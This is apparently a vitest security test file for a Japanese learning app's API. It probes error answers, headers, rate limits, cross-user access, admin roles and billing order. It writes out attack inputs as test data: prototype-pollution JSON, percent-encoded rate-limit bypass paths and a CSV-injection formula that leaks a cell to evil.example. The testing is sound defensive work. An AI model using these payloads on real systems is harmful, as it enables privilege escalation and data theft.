import { TEXT } from '@shunkan/config/texts';
import type { LightMyRequestResponse as InjectResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ServerHandle } from '../src/server.js';
import { emulatorAdmin, signUp, startTestServer } from './harness.js';

/**
 * The independent security and fault probe, as tests (decision 026): unknown paths and methods,
 * content types, oversized and prototype-polluting bodies, protective headers on every kind of answer,
 * the rate limiter under percent-encoded paths, one learner reaching for another's attempts, appeals,
 * bookmarks, scenarios and payments by id, and the sandbox billing paths out of order.
 */

const AUTH_LIMIT = 3;
let server: ServerHandle;
beforeAll(async () => {
  server = await startTestServer({ RATE_LIMIT_AUTH_PER_MIN: String(AUTH_LIMIT), RATE_LIMIT_BILLING_PER_MIN: '10000' });
});
afterAll(async () => {
  await server?.stop();
});

const JSON_TYPE = { 'content-type': 'application/json' };
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
const JAPANESE = /[\u3040-\u30ff\u4e00-\u9fff]/;
/** English framework defaults and internals (case-sensitive: the codes such as UNSUPPORTED_MEDIA_TYPE are fine). */
const INTERNAL_TEXT = /Not Found|Bad Request|Unsupported Media|Payload Too Large|FST_|"stack"|node_modules|\.ts\b|TypeError|Batch call/;

/** A tRPC mutation (batch form for void inputs, as the web client sends them); the single answer. */
async function mutate(path: string, token: string, input?: unknown) {
  const response = await server.app.inject({
    method: 'POST',
    url: `/api/trpc/${path}${input === undefined ? '?batch=1' : ''}`,
    headers: { ...bearer(token), ...JSON_TYPE },
    payload: input === undefined ? '{}' : JSON.stringify(input),
  });
  const body = response.json() as unknown;
  const item = (Array.isArray(body) ? body[0] : body) as { result?: { data?: Record<string, unknown> }; error?: { message: string } };
  return { status: response.statusCode, data: item.result?.data, error: item.error };
}

async function query(path: string, token: string, input?: unknown) {
  const response = await server.app.inject({
    method: 'GET',
    url: `/api/trpc/${path}${input === undefined ? '' : `?input=${encodeURIComponent(JSON.stringify(input))}`}`,
    headers: bearer(token),
  });
  const body = response.json() as { result?: { data?: unknown }; error?: { message: string } };
  return { status: response.statusCode, data: body.result?.data, error: body.error };
}

/** A refusal as the rules want it: 4xx, a Japanese message, nothing internal. */
function expectRefusal(response: InjectResponse, status: number) {
  expect(response.statusCode, response.body).toBe(status);
  const body = response.json() as { message?: string; error?: { message?: string } };
  const message = body.message ?? body.error?.message ?? '';
  expect(message).toMatch(JAPANESE);
  expect(response.body).not.toMatch(INTERNAL_TEXT);
}

describe('framework-level answers', () => {
  it('answers unknown API paths and methods 404 with the Japanese text, never an English default', async () => {
    for (const [method, url] of [
      ['GET', '/api/nope'],
      ['POST', '/api/nope'],
      ['GET', '/api'],
      ['DELETE', '/api/health'],
      ['OPTIONS', '/api/health'],
      ['PUT', '/api/trpc'],
    ] as const) {
      const response = await server.app.inject({ method, url, ...(method === 'POST' ? { headers: JSON_TYPE, payload: '{}' } : {}) });
      expectRefusal(response, 404);
      expect(response.json()).toEqual({ code: 'NOT_FOUND', message: TEXT.apiNotFound });
    }
  });

  it('answers wrong content types 415, oversized bodies 413 and broken JSON 400, in Japanese, on both doors', async () => {
    const { idToken } = await signUp();
    for (const url of ['/api/create-payment-intent', '/api/problem', '/api/trpc/learning.setDailyGoal']) {
      // text/plain is read as a string body, which carries no fields: a refusal of the input (or of the
      // caller, who has no plan for /api/problem) rather than 415.
      const plain = await server.app.inject({ method: 'POST', url, headers: { ...bearer(idToken), 'content-type': 'text/plain' }, payload: 'planId=standard' });
      expect([400, 403, 415]).toContain(plain.statusCode);
      expectRefusal(plain, plain.statusCode);
      // multipart/form-data on the tRPC door was a 500 (tRPC parsed the malformed body as FormData).
      for (const type of ['application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/octet-stream']) {
        const wrong = await server.app.inject({ method: 'POST', url, headers: { ...bearer(idToken), 'content-type': type }, payload: 'a=b' });
        expectRefusal(wrong, 415);
      }
      expectRefusal(await server.app.inject({ method: 'POST', url, headers: { ...bearer(idToken), ...JSON_TYPE }, payload: JSON.stringify({ x: 'a'.repeat(100_000) }) }), 413);
      expectRefusal(await server.app.inject({ method: 'POST', url, headers: { ...bearer(idToken), ...JSON_TYPE }, payload: '{"planId":' }), 400);
    }
  });

  it('refuses prototype-polluting JSON with 400 and leaves Object.prototype alone', async () => {
    const { idToken } = await signUp();
    for (const payload of ['{"__proto__":{"isAdmin":true,"planId":"standard"}}', '{"constructor":{"prototype":{"isAdmin":true}}}', '{"a":{"__proto__":{"polluted":1}}}']) {
      for (const url of ['/api/create-payment-intent', '/api/trpc/learning.setDailyGoal', '/api/evaluate-with-claude']) {
        expectRefusal(await server.app.inject({ method: 'POST', url, headers: { ...bearer(idToken), ...JSON_TYPE }, payload }), 400);
      }
    }
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('sends the protective headers on data, refusals, unknown paths and undecodable URLs, and no x-powered-by', async () => {
    const responses = await Promise.all([
      server.app.inject({ method: 'GET', url: '/api/health' }),
      server.app.inject({ method: 'GET', url: '/api/user-subscription' }),
      server.app.inject({ method: 'GET', url: '/api/nope' }),
      server.app.inject({ method: 'GET', url: '/api/%ED%A0%80' }),
      server.app.inject({ method: 'GET', url: '/api/trpc/nope.nope' }),
    ]);
    for (const response of responses) {
      expect(response.headers['content-security-policy'], response.body).toMatch(/default-src/);
      expect(response.headers['strict-transport-security']).toMatch(/max-age=\d+/);
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(response.headers['x-powered-by']).toBeUndefined();
      expect(response.body).not.toMatch(INTERNAL_TEXT);
    }
    expectRefusal(responses[3] as InjectResponse, 400);
  });
});

describe('rate limits', () => {
  it('limit percent-encoded paths like the paths they route to (no bypass through /%61pi/...)', async () => {
    const statuses: number[] = [];
    // /api/auth/user is in the auth group; spelled in three ways, it is one bucket.
    for (const url of ['/api/auth/user', '/%61pi/auth/user', '/api/%61uth/user', '/%61pi/auth/user', '/%61pi/%61uth/user']) {
      statuses.push((await server.app.inject({ method: 'GET', url })).statusCode);
    }
    expect(statuses.slice(0, AUTH_LIMIT)).toEqual(Array(AUTH_LIMIT).fill(401));
    expect(statuses.slice(AUTH_LIMIT)).toEqual([429, 429]);
    // Without TRUST_PROXY (the default) a forged X-Forwarded-For is not a new client.
    const forged = await server.app.inject({ method: 'GET', url: '/api/auth/user', headers: { 'x-forwarded-for': '203.0.113.7' } });
    expect(forged.statusCode).toBe(429);
    const limited = await server.app.inject({ method: 'POST', url: '/api/trpc/%64emo.nextProblem', headers: JSON_TYPE, payload: '{"difficultyLevel":"toeic"}' });
    expectRefusal(limited, 429);
    expect(limited.json()).toMatchObject({ message: TEXT.tooManyRequests });
  });
});

describe("one learner and another learner's data", () => {
  it("cannot read or change another learner's attempts, bookmarks, appeals, scenarios or problems by id", async () => {
    const a = await signUp();
    const b = await signUp();
    expect((await mutate('billing.startTrial', a.idToken)).status).toBe(200);
    expect((await mutate('billing.startTrial', b.idToken)).status).toBe(200);

    const served = await mutate('practice.nextProblem', a.idToken, { difficultyLevel: 'toeic' });
    const problemId = served.data?.problemId as string;
    const graded = await mutate('practice.evaluate', a.idToken, { problemId, answer: 'I am sure about this answer today.' });
    const attemptId = graded.data?.attemptId as string;
    expect(attemptId).toMatch(/^\d+$/);
    const scenario = await mutate('scenarios.create', a.idToken, { title: '旅行', description: '空港で使う英語' });
    const scenarioId = scenario.data?.id as string;

    // B, by A's ids: nothing found, nothing changed.
    expect((await mutate('practice.setBookmark', b.idToken, { attemptId, isBookmarked: true })).status).toBe(404);
    expect((await mutate('appeals.submit', b.idToken, { attemptId })).status).toBe(404);
    expect((await query('appeals.statuses', b.idToken, { attemptIds: [attemptId] })).data).toEqual([]);
    expect((await mutate('practice.evaluate', b.idToken, { problemId, answer: 'Something else entirely here.' })).status).toBe(404);
    for (const [path, input] of [
      ['scenarios.update', { id: scenarioId, title: '乗っ取り', description: '他人のシナリオ' }],
      ['scenarios.delete', { id: scenarioId }],
      ['scenarios.nextProblem', { scenarioId }],
      ['practice.evaluate', { problemId, answer: 'I am sure about this.', scenarioId }],
    ] as const) {
      const refused = await mutate(path, b.idToken, input);
      expect(refused.status, path).toBe(404);
      expect(refused.error?.message).toMatch(JAPANESE);
    }
    expect((await query('learning.recentSessions', b.idToken, { limit: 50 })).data).toEqual({ items: [], nextCursor: null });
    expect((await query('learning.bookmarkedSessions', b.idToken, { limit: 50 })).data).toEqual({ items: [], nextCursor: null });

    // A's records are as A left them.
    const mine = (await query('learning.recentSessions', a.idToken, { limit: 50 })).data as { items: Array<{ id: string; isBookmarked: boolean }> };
    expect(mine.items.map((item) => [item.id, item.isBookmarked])).toEqual([[attemptId, false]]);
    expect(((await query('scenarios.list', a.idToken)).data as Array<{ id: string; title: string }>).map((s) => [s.id, s.title])).toEqual([[scenarioId, '旅行']]);
    expect((await query('appeals.statuses', a.idToken, { attemptIds: [attemptId] })).data).toEqual([]);
  });

  it('refuses ids past the database range with 400, not 500 (attempts, appeals, history cursor)', async () => {
    const learner = await signUp();
    expect((await mutate('billing.startTrial', learner.idToken)).status).toBe(200);
    const admin = await signUp();
    await emulatorAdmin('accounts:update', { localId: admin.localId, customAttributes: JSON.stringify({ admin: true }) });
    const huge = '99999999999999999999';
    const past = '9223372036854775808';
    for (const id of [huge, past]) {
      for (const [status, call] of [
        [400, () => mutate('practice.setBookmark', learner.idToken, { attemptId: id, isBookmarked: true })],
        [400, () => mutate('appeals.submit', learner.idToken, { attemptId: id })],
        [400, () => query('appeals.statuses', learner.idToken, { attemptIds: [id] })],
        [400, () => mutate('admin.appeals.decide', admin.idToken, { appealId: id, decision: 'accept' })],
        [400, () => query('admin.appeals.list', admin.idToken, { status: 'pending', limit: 5, before: id })],
        [400, () => query('learning.recentSessions', learner.idToken, { limit: 5, cursor: `2026-11-24T10:00:00.000Z_${id.slice(0, 19)}` })],
      ] as const) {
        const refused = await call();
        expect(refused.status, `${call.toString()} ${id}`).toBe(status);
        expect(refused.error?.message).toMatch(JAPANESE);
      }
    }
    // The largest id is valid input, and simply not there.
    expect((await mutate('practice.setBookmark', learner.idToken, { attemptId: '9223372036854775807', isBookmarked: true })).status).toBe(404);
  });

  it('refuses negative, fractional, huge and malformed pagination and numbers with 400 in Japanese', async () => {
    const { idToken } = await signUp();
    for (const url of [
      '/api/recent-sessions?limit=-1',
      '/api/recent-sessions?limit=0',
      '/api/recent-sessions?limit=1.5',
      '/api/recent-sessions?limit=99999999999999999999',
      '/api/recent-sessions?limit=1&limit=2',
      '/api/recent-sessions?cursor=abc',
      '/api/bookmarked-sessions?limit=NaN',
    ]) {
      expectRefusal(await server.app.inject({ method: 'GET', url, headers: bearer(idToken) }), 400);
    }
    // (null is valid: it clears the goal.)
    for (const dailyGoal of [-5, 0, 3.5, 1e12, '5', true, [5]]) {
      const refused = await mutate('learning.setDailyGoal', idToken, { dailyGoal });
      expect(refused.status, String(dailyGoal)).toBe(400);
      expect(refused.error?.message).toBe(TEXT.invalidInput);
    }
  });
});

describe('admin role from our database', () => {
  it('takes effect at once when an admin grants or withdraws it (no cached role on this instance)', async () => {
    const admin = await signUp();
    await emulatorAdmin('accounts:update', { localId: admin.localId, customAttributes: JSON.stringify({ admin: true }) });
    const other = await signUp();
    const userId = ((await query('auth.me', other.idToken)).data as { user: { id: string } }).user.id;
    // Read as a learner first, so that this instance has the learner's session cached.
    expect((await query('admin.whoami', other.idToken)).status).toBe(403);
    expect((await mutate('admin.users.setAdmin', admin.idToken, { userId, isAdmin: true })).status).toBe(200);
    expect((await query('admin.whoami', other.idToken)).status).toBe(200);
    expect((await mutate('admin.users.setAdmin', admin.idToken, { userId, isAdmin: false })).status).toBe(200);
    const demoted = await query('admin.whoami', other.idToken);
    expect(demoted.status).toBe(403);
    expect(demoted.error?.message).toBe(TEXT.forbidden);
  });

  it('refuses an admin whose role was withdrawn elsewhere (another instance) at once, despite the cached session', async () => {
    const other = await signUp();
    const userId = ((await query('auth.me', other.idToken)).data as { user: { id: string } }).user.id;
    // Promote through the database, as another instance would, then cache the admin session here.
    await server.database.db.updateTable('users').set({ role: 'admin' }).where('id', '=', userId).execute();
    server.services.sessions?.forget(other.localId);
    expect((await query('admin.whoami', other.idToken)).status).toBe(200);
    await server.database.db.updateTable('users').set({ role: 'learner' }).where('id', '=', userId).execute();
    expect((await query('admin.whoami', other.idToken)).status).toBe(403);
    expect((await server.app.inject({ method: 'GET', url: '/api/admin/stats', headers: bearer(other.idToken) })).statusCode).toBe(403);
  });
});

describe('CSV exports', () => {
  it("keep a learner's formula-like answer as text in the admin's sessions export (CSV injection)", async () => {
    const learner = await signUp();
    expect((await mutate('billing.startTrial', learner.idToken)).status).toBe(200);
    const served = await mutate('practice.nextProblem', learner.idToken, { difficultyLevel: 'toeic' });
    const answer = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")';
    expect((await mutate('practice.evaluate', learner.idToken, { problemId: served.data?.problemId, answer })).status).toBe(200);

    const admin = await signUp();
    await emulatorAdmin('accounts:update', { localId: admin.localId, customAttributes: JSON.stringify({ admin: true }) });
    const exported = await server.app.inject({ method: 'GET', url: '/api/admin/export/sessions', headers: bearer(admin.idToken) });
    expect(exported.statusCode).toBe(200);
    const line = exported.body.split('\r\n').find((record) => record.includes(learner.email)) ?? '';
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""詳細"")"`);
    expect(line).not.toMatch(/,"?=HYPERLINK/);
  });
});

describe('sandbox billing paths out of order', () => {
  it('confirms a payment once, only for its own learner and plan, and refuses states out of order', async () => {
    const a = await signUp();
    const b = await signUp();
    for (const token of [a.idToken, b.idToken]) {
      for (const path of ['billing.cancelAtPeriodEnd', 'billing.resume']) {
        const refused = await mutate(path, token);
        expect(refused.status, path).toBe(400);
        expect(refused.error?.message).toBe('ご契約中の有料プランがありません。');
      }
      expect((await mutate('billing.upgradeToYearly', token, { planType: 'yearly' })).status).toBe(400);
    }
    for (const planId of ['gold', 'standard-weekly', '', null, 1]) {
      expect((await mutate('billing.createPaymentIntent', a.idToken, { planId })).status, String(planId)).toBe(400);
    }
    expect((await mutate('billing.createCheckoutSession', a.idToken, { priceId: 'price_nonexistent' })).error?.message).toBe('指定されたプランが見つかりません。');

    const intent = await mutate('billing.createPaymentIntent', a.idToken, { planId: 'standard' });
    const clientSecret = intent.data?.clientSecret as string;
    const card = '4242424242424242';
    // B with A's secret: not found, and A's payment is still A's to confirm.
    const stolen = await mutate('billing.confirmSandboxPayment', b.idToken, { clientSecret, cardNumber: card });
    expect(stolen.status).toBe(404);
    expect(stolen.error?.message).toMatch(JAPANESE);
    expect((await query('billing.details', b.idToken)).data).toMatchObject({ status: 'none', payments: [] });
    expect((await mutate('billing.confirmSandboxPayment', a.idToken, { clientSecret: 'sandbox_pi_0_secret_0', cardNumber: card })).status).toBe(404);

    expect((await mutate('billing.confirmSandboxPayment', a.idToken, { clientSecret, cardNumber: card })).data).toEqual({ status: 'succeeded', planId: 'standard' });
    // Twice: the same answer, one payment, one period.
    const before = (await query('billing.details', a.idToken)).data as { currentPeriodEnd: string; payments: unknown[] };
    expect((await mutate('billing.confirmSandboxPayment', a.idToken, { clientSecret, cardNumber: card })).data).toEqual({ status: 'succeeded', planId: 'standard' });
    const after = (await query('billing.details', a.idToken)).data as { currentPeriodEnd: string; payments: unknown[] };
    expect(after.payments).toHaveLength(1);
    expect(after.currentPeriodEnd).toBe(before.currentPeriodEnd);
    // A second plan while one is active, and a trial after paying: refused in Japanese.
    expect((await mutate('billing.createPaymentIntent', a.idToken, { planId: 'premium' })).status).toBe(409);
    expect((await mutate('billing.startTrial', a.idToken)).status).toBe(409);
    // Cancel twice and resume twice are idempotent; the subscription stays one active standard plan.
    for (const path of ['billing.cancelAtPeriodEnd', 'billing.cancelAtPeriodEnd', 'billing.resume', 'billing.resume']) {
      expect((await mutate(path, a.idToken)).status, path).toBe(200);
    }
    expect((await query('billing.details', a.idToken)).data).toMatchObject({ status: 'active', planId: 'standard', cancelAtPeriodEnd: false });
  });
});
